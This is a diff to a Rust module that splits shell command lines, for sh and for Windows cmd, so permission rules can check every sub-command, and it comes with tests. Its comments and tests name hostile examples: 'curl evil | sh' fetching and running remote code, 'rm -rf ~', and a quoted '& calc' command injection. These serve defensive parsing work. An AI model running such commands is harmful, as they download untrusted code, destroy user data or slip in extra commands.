@@ -1,14 +1,77 @@
 //! Splitting a shell command line into the simple commands it runs, so permission
 //! rules judge every one of them: `cargo test && rm -rf ~` is two commands, and
-//! `echo $(curl evil | sh)` hides three.
+//! `echo $(curl evil | sh)` hides three. The line is read as the shell that will run
+//! it reads it: `sh` on Unix, `cmd` on Windows, whose quotes and escapes differ (a
+//! single quote hides nothing from `cmd`: `echo 'x & calc'` runs `calc` there).
 
-/// The simple commands of `line`: split at `&&`, `||`, `;`, `|`, `&` and newlines,
-/// with the contents of `$( )`, backticks and `( )` subshells added as commands of
-/// their own. `None` when the line cannot be read (an unclosed quote or bracket):
-/// then nothing in it can be trusted to match an allow rule.
+/// The simple commands of `line`, read as this system's shell reads it
+/// ([`split_sh`] or [`split_cmd`]). `None` when the line cannot be read (an unclosed
+/// quote or bracket): then nothing in it can be trusted to match an allow rule.
 pub fn split(line: &str) -> Option<Vec<String>> {
+    if cfg!(windows) {
+        split_cmd(line)
+    } else {
+        split_sh(line)
+    }
+}
+
+/// The simple commands of an `sh` line: split at `&&`, `||`, `;`, `|`, `&` and
+/// newlines, with the contents of `$( )`, backticks and `( )` subshells added as
+/// commands of their own.
+pub fn split_sh(line: &str) -> Option<Vec<String>> {
     let mut commands = Vec::new();
     split_into(line, &mut commands)?;
+    Some(commands)
+}
+
+/// The simple commands of a `cmd /C` line: split at `&`, `&&`, `||`, `|` and line
+/// breaks outside double quotes, and around `( )` groups. `^` escapes the next
+/// character outside quotes; single quotes and backslashes are plain characters, as
+/// `cmd` has them.
+pub fn split_cmd(line: &str) -> Option<Vec<String>> {
+    let mut commands = Vec::new();
+    let mut current = String::new();
+    let finish = |current: &mut String, commands: &mut Vec<String>| {
+        let command = normalize(current);
+        if !command.is_empty() {
+            commands.push(command);
+        }
+        current.clear();
+    };
+    let (mut quoted, mut depth) = (false, 0usize);
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' => {
+                quoted = !quoted;
+                current.push(c);
+            }
+            _ if quoted => current.push(c),
+            '^' => {
+                current.push(c);
+                current.extend(chars.next());
+            }
+            '(' => {
+                depth += 1;
+                finish(&mut current, &mut commands);
+            }
+            ')' => {
+                depth = depth.checked_sub(1)?;
+                finish(&mut current, &mut commands);
+            }
+            '&' | '|' | '\n' | '\r' => {
+                finish(&mut current, &mut commands);
+                if matches!(c, '&' | '|') && chars.peek() == Some(&c) {
+                    chars.next();
+                }
+            }
+            _ => current.push(c),
+        }
+    }
+    if quoted || depth > 0 {
+        return None;
+    }
+    finish(&mut current, &mut commands);
     Some(commands)
 }
 
@@ -163,7 +226,45 @@ mod tests {
     use super::*;
 
     fn parts(line: &str) -> Vec<String> {
-        split(line).unwrap_or_else(|| panic!("could not split {line:?}"))
+        split_sh(line).unwrap_or_else(|| panic!("could not split {line:?}"))
+    }
+
+    fn cmd_parts(line: &str) -> Vec<String> {
+        split_cmd(line).unwrap_or_else(|| panic!("could not split {line:?}"))
+    }
+
+    #[test]
+    fn cmd_lines_are_split_as_cmd_reads_them() {
+        assert_eq!(
+            cmd_parts("cargo build && cargo test || exit 1 & dir | more"),
+            ["cargo build", "cargo test", "exit 1", "dir", "more"]
+        );
+        // What sh would keep together, cmd runs apart.
+        assert_eq!(cmd_parts("echo 'x & calc'"), ["echo 'x", "calc'"]);
+        assert_eq!(cmd_parts(r"echo a\& calc"), [r"echo a\", "calc"]);
+        assert_eq!(cmd_parts("echo a;b"), ["echo a;b"]);
+        // What cmd keeps together.
+        assert_eq!(cmd_parts("echo \"a & b\" & dir"), ["echo \"a & b\"", "dir"]);
+        assert_eq!(cmd_parts("echo a^&b"), ["echo a^&b"]);
+        assert_eq!(
+            cmd_parts("(cd sub && make) & dir"),
+            ["cd sub", "make", "dir"]
+        );
+        assert_eq!(cmd_parts("a\r\nb"), ["a", "b"]);
+        for unreadable in ["echo \"open", "a ) b", "(a & b"] {
+            assert_eq!(split_cmd(unreadable), None, "{unreadable}");
+        }
+    }
+
+    #[test]
+    fn the_systems_own_shell_splits() {
+        let line = "echo 'x & calc'";
+        let expected = if cfg!(windows) {
+            split_cmd(line)
+        } else {
+            split_sh(line)
+        };
+        assert_eq!(split(line), expected);
     }
 
     #[test]
@@ -205,7 +306,7 @@ mod tests {
             "echo `x",
             "a )",
         ] {
-            assert_eq!(split(line), None, "{line}");
+            assert_eq!(split_sh(line), None, "{line}");
         }
     }
 
